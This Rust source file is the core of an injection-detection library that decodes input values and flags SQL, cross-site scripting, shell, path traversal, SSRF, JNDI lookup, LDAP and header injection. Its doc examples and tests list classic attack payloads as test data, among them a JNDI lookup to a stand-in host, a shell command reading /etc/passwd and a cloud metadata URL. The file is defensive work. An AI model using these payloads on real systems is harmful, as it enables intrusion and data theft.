//! Injection detectors over bytes: does this value become code where it lands?
//!
//! [`inspect`] decodes a value the way applications do, to a bounded depth, and runs each detector on each distinct
//! variant. A detector knows the grammar an attacker has to write, not a list of bad words; it answers with a
//! [`Confidence`] and a reason for the log. Prose mentions code more often than it is code, so a detector needs more
//! evidence in a value that reads like sentences.
//!
//! ```
//! use detect::{ALL, Class, Confidence, Decoding, inspect};
//!
//! let finding = inspect(b"' OR '1'='1", 3, &ALL).unwrap();
//! assert_eq!((finding.class, finding.confidence), (Class::Sql, Confidence::High));
//!
//! // Percent-encoded, the same attack; the finding says what was decoded to see it.
//! let finding = inspect(b"%27%20OR%20%271%27%3D%271", 3, &ALL).unwrap();
//! assert_eq!((finding.class, finding.decodings), (Class::Sql, vec![Decoding::Percent]));
//!
//! // An apostrophe in a name closes a string too, but no SQL follows it.
//! assert_eq!(inspect(b"O'Brien", 3, &ALL), None);
//! ```

mod byte_mask;
mod bytes;
mod candidate;
mod code;
mod confidence;
mod decode;
mod headers;
mod html;
mod ldap;
mod lookup;
mod nosql;
mod path;
mod prose;
mod quoted;
mod scanner;
mod serialized;
mod shell;
mod sql;
mod ssrf;
mod template;
mod xml;

use byte_mask::ByteMask;
use candidate::{Candidate, Found};
pub use confidence::Confidence;
pub use decode::Decoding;

macro_rules! classes {
    ($($(#[doc = $doc:literal])* $variant:ident = $name:literal in $module:ident, needs $needs:literal;)*) => {
        /// The kind of code a value tries to become.
        ///
        /// Section numbers are those of [the guide](https://github.com/doorward/doorward/blob/main/docs/guide.md).
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum Class { $($(#[doc = $doc])* $variant),* }

        /// Every class, in the order the detectors run.
        pub const ALL: [Class; [$(Class::$variant),*].len()] = [$(Class::$variant),*];

        impl Class {
            /// The name in events and in the configuration.
            pub const fn name(self) -> &'static str {
                match self { $(Class::$variant => $name),* }
            }

            /// Parses a class name.
            ///
            /// ```
            /// assert_eq!(detect::Class::from_name("sql"), Some(detect::Class::Sql));
            /// assert_eq!(detect::Class::from_name("SQL"), None);
            /// ```
            pub fn from_name(name: &str) -> Option<Class> {
                ALL.into_iter().find(|class| class.name() == name)
            }

            /// A value without any of these bytes cannot match.
            const fn needs(self) -> ByteMask {
                match self { $(Class::$variant => byte_mask::any_of($needs)),* }
            }

            fn detect(self, candidate: &Candidate<'_>) -> Found {
                match self { $(Class::$variant => $module::detect(candidate)),* }
            }
        }
    };
}

classes! {
    /// SQL injection (guide §1).
    Sql = "sql" in sql, needs b" '\"`();=<>#|&*/-@+,";
    /// HTML or script: cross-site scripting (guide §3).
    Html = "html" in html, needs b"<=(`[.:{";
    /// A lookup that a logger or template evaluates: `${jndi:...}` (guide §9).
    Lookup = "lookup" in lookup, needs b"$";
    /// An operating system command (guide §9).
    Shell = "shell" in shell, needs b";|&`$()/{}<>\\ %'\"^=";
    /// Path traversal, or the path of a sensitive file (guide §9).
    Path = "path" in path, needs b"/\\.:";
    /// Server-side request forgery: a URL of an internal address (guide §9).
    Ssrf = "ssrf" in ssrf, needs b"/:";
    /// A template engine expression (guide §9).
    Template = "template" in template, needs b"{<#[@%";
    /// A document database operator or code (guide §9).
    NoSql = "nosql" in nosql, needs b"$'\"=|;.*";
    /// An LDAP filter condition, or XPath (guide §9).
    Ldap = "ldap" in ldap, needs b"*()[/\"";
    /// XML that loads or expands entities, and server-side includes (guide §9).
    Xml = "xml" in xml, needs b"<";
    /// An HTTP or mail header after a line break (guide §9).
    Headers = "headers" in headers, needs b"";
    /// A serialised object (guide §9).
    Serialized = "serialized" in serialized, needs b"";
    /// A vulnerability scanner that names itself (guide §9).
    Scanner = "scanner" in scanner, needs b"/";
    /// Code in the server's language (guide §9).
    Code = "code" in code, needs b"(`[{<_.;'\"%";
}

/// Why a value looks like an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// What it tries to become.
    pub class: Class,
    /// How likely it is an attack.
    pub confidence: Confidence,
    /// One line for the log.
    pub reason: &'static str,
    /// The decodings, outermost first, that exposed it.
    pub decodings: Vec<Decoding>,
}

/// Looks for attacks of some classes in a value and in every variant that an application may decode from it, at most
/// `max_decode_depth` decodings deep. Returns the finding with the highest confidence.
///
/// ```
/// use detect::{Class, Confidence, inspect};
///
/// let finding = inspect(b"../../etc/passwd", 3, &[Class::Path]).unwrap();
/// assert_eq!(finding.confidence, Confidence::High);
/// // Only the classes asked for are looked for.
/// assert_eq!(inspect(b"../../etc/passwd", 3, &[Class::Sql]), None);
/// ```
pub fn inspect(value: &[u8], max_decode_depth: usize, classes: &[Class]) -> Option<Finding> {
    if is_plain(value) && !may_be_encoded(value) {
        return None;
    }
    let mut best: Option<Finding> = None;
    let stopped = decode::variants(value, max_decode_depth, |variant| {
        if is_plain(&variant.text) {
            return None;
        }
        let candidate = Candidate::new(&variant.text);
        for class in classes.iter().filter(|class| candidate.has_any(class.needs())) {
            let Some((confidence, reason)) = class.detect(&candidate) else { continue };
            if best.as_ref().is_none_or(|known| confidence > known.confidence) {
                best =
                    Some(Finding { class: *class, confidence, reason, decodings: variant.decodings.clone() });
            }
            if confidence == Confidence::High {
                return Some(());
            }
        }
        None
    });
    debug_assert!(stopped.is_none() || best.is_some());
    best
}

/// Whether a value is letters, digits and a little punctuation, from which none of the grammars can be written.
fn is_plain(value: &[u8]) -> bool {
    value.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b',' | b'@' | b':'))
        && !value.windows(2).any(|pair| matches!(pair, b".." | b"__" | b"--"))
        && !bytes::has(value, "constructor.prototype")
        && !bytes::has(value, "lassLoader")
        && !serialized::begins(value)
        // Some clients take a URL without slashes.
        && !bytes::begins(value, "http")
}

/// Whether letters and digits may spell other bytes, as Base64 and hexadecimal digits do.
fn may_be_encoded(value: &[u8]) -> bool {
    value.len() >= 8 && value.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
}

#[cfg(test)]
mod testing {
    //! Tables of attacks and of their honest neighbours, for the tests of each detector.

    use super::*;

    fn confidence(class: Class, value: &str) -> Option<Confidence> {
        inspect(value.as_bytes(), 3, &[class]).map(|finding| finding.confidence)
    }

    /// Checks that a detector finds each value with this confidence.
    pub(crate) fn finds(class: Class, expected: Confidence, values: &[&str]) {
        let is_wrong = |value: &&&str| confidence(class, value) != Some(expected);
        let wrong: Vec<_> = values.iter().filter(is_wrong).map(|v| (v, confidence(class, v))).collect();
        assert!(wrong.is_empty(), "{}, expected {expected:?}: {wrong:#?}", class.name());
    }

    /// Checks that a detector finds none of the values with high or medium confidence.
    pub(crate) fn passes(class: Class, values: &[&str]) {
        let is_found = |value: &&&str| confidence(class, value) > Some(Confidence::Low);
        let found: Vec<_> = values.iter().filter(is_found).collect();
        assert!(found.is_empty(), "{}: {found:#?}", class.name());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(value: &str) -> Option<Class> {
        inspect(value.as_bytes(), 3, &ALL).filter(|f| f.confidence == Confidence::High).map(|f| f.class)
    }

    #[test]
    fn attacks_are_found_in_every_variant() {
        for (value, expected) in [
            ("' OR '1'='1", Class::Sql),
            ("1 OR 1=1", Class::Sql),
            ("'; DROP TABLE users; --", Class::Sql),
            ("%27%20OR%20%271%27=%271", Class::Sql),
            ("%2527%2520OR%2520%25271%2527=%25271", Class::Sql),
            ("1 UNION SELECT password FROM users", Class::Sql),
            ("<script>alert(1)</script>", Class::Html),
            ("<img src=x onerror=alert(1)>", Class::Html),
            ("&lt;script&gt;alert(1)&lt;/script&gt;", Class::Html),
            ("%3Csvg%20onload=alert(1)%3E", Class::Html),
            ("../../../../etc/passwd", Class::Path),
            ("..%2f..%2f..%2fetc%2fpasswd", Class::Path),
            ("${jndi:ldap://evil.test/a}", Class::Lookup),
            ("${${lower:j}ndi:ldap://evil.test/a}", Class::Lookup),
            ("x; cat /etc/passwd", Class::Shell),
            ("http://169.254.169.254/latest/meta-data/", Class::Ssrf),
            ("{{7*7}}", Class::Template),
            ("*)(uid=*))(|(uid=*", Class::Ldap),
            ("x\r\nSet-Cookie: a=b", Class::Headers),
        ] {
            assert_eq!(found(value), Some(expected), "{value}");
        }
    }

    #[test]
    fn honest_input_passes() {
        for value in [
            "O'Brien",
            "D'Angelo & Sons, Ltd.",
            "Please select the best option from the menu and drop me a line.",
            "I don't want to update; where is the delete button?",
            "# Title\n\n* item one\n* item **two**\n\n> quoted\n\n[link](https://example.com/a?b=c&d=e)",
            "ünïcödé 日本語 🎉",
            "a=b&c=d",
            "100% sure -- really!",
            "https://example.com/search?q=a%20b&page=2",
            "2026-11-24T10:00:00Z",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "see ../README for more",
            "price is ${amount} today",
            "5' 6\" tall",
            "Rock 'n' Roll",
            "it's 5 o'clock or so",
            "Tom & Jerry; cat and mouse",
        ] {
            assert_eq!(found(value), None, "{value}: {:?}", inspect(value.as_bytes(), 3, &ALL));
        }
    }

    #[test]
    fn the_finding_with_the_highest_confidence_is_reported() {
        // One climb is of medium confidence, the percent-encoded statement of high.
        let finding = inspect(b"../x%27;drop%20table%20users--%20", 3, &ALL).unwrap();
        assert_eq!((finding.class, finding.confidence), (Class::Sql, Confidence::High));
        assert_eq!(finding.decodings, [Decoding::Percent]);
    }

    #[test]
    fn the_decode_depth_is_a_limit() {
        let encoded = b"%25252e%25252e%25252fetc%25252fpasswd";
        assert_eq!(inspect(encoded, 2, &[Class::Path]), None);
        let finding = inspect(encoded, 3, &[Class::Path]).unwrap();
        assert_eq!(finding.decodings, [Decoding::Percent; 3]);
    }

    #[test]
    fn names_of_classes_are_unique() {
        for class in ALL {
            assert_eq!(Class::from_name(class.name()), Some(class));
        }
    }
}
